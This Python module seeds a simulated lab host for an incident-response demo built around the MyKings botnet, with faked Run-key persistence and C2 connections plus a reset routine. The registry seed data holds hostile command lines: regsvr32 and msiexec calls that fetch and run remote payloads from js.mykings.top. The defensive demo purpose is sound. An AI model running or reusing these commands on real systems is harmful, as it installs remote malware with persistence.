"""The MyKings demo: a lab host with two-year-old Run-key persistence, and the alert that finds it."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from actions.lab import ConnectionSeed, HostSeed, LabFleet, RegistryValueSeed
from flows.store import IncidentStatus, Store

DEMO_TENANT = "demo"
DEMO_HOST = "WS-FINANCE-07"
RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
_WRITTEN = datetime(2017, 7, 23, 3, 14, tzinfo=UTC)  # the bot lived there about two years


def mykings_alert() -> dict[str, Any]:
    """The OCSF Detection Finding the demo sends (tenant ``demo``)."""
    document: dict[str, Any] = json.loads(
        (Path(__file__).parent / "mykings-alert.json").read_text(encoding="utf-8")
    )
    return document


def mykings_host(tenant: str = DEMO_TENANT) -> HostSeed:
    return HostSeed(
        tenant=tenant,
        hostname=DEMO_HOST,
        registry_values=[
            RegistryValueSeed(
                key=RUN_KEY,
                name="start",
                data="regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll",
                written_at=_WRITTEN,
            ),
            RegistryValueSeed(
                key=RUN_KEY,
                name="start1",
                data="msiexec.exe /i http://js.mykings.top:280/helloworld.msi /q",
                written_at=_WRITTEN,
            ),
            RegistryValueSeed(
                key=RUN_KEY, name="SecurityHealth", data=r"%windir%\system32\SecurityHealthSystray.exe"
            ),
            RegistryValueSeed(
                key=r"HKLM\SOFTWARE\Microsoft\Shared Tools\MSConfig\startupreg",
                name="start",
                data="regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll",
                written_at=_WRITTEN,
            ),
        ],
        connections=[
            ConnectionSeed(remote="js.mykings.top", port=280, process="regsvr32.exe"),
            ConnectionSeed(remote="js.mykings.top", port=280, process="msiexec.exe"),
        ],
    )


def reset_demo(store: Store, tenant: str = DEMO_TENANT) -> list[str]:
    """Put the MyKings host back as it was before any response (Run keys, C2 connections, not isolated),
    and close the earlier demo incidents on it that wait for an analyst (contained, or awaiting a decision):
    the lab reset ends them, on their timeline, so the next demo alert is a new response round instead of
    news for a stale one. Returns the ids it closed."""
    LabFleet(store.engine).seed(mykings_host(tenant))
    closed = []
    for status in (IncidentStatus.CONTAINED, IncidentStatus.AWAITING_APPROVAL):  # their runs have ended
        for summary in store.incidents(tenant=tenant, status=status, limit=200):
            incident = store.incident(summary.id)
            if incident is not None and DEMO_HOST in incident.hosts:
                store.set_status(
                    incident.id, IncidentStatus.CLOSED, "closed: the demo lab host was reset", "demo"
                )
                closed.append(incident.id)
    return closed


from ._run import DemoReport, run_demo  # noqa: E402 - it uses the names above

__all__ = [
    "DEMO_HOST",
    "DEMO_TENANT",
    "DemoReport",
    "mykings_alert",
    "mykings_host",
    "reset_demo",
    "run_demo",
]
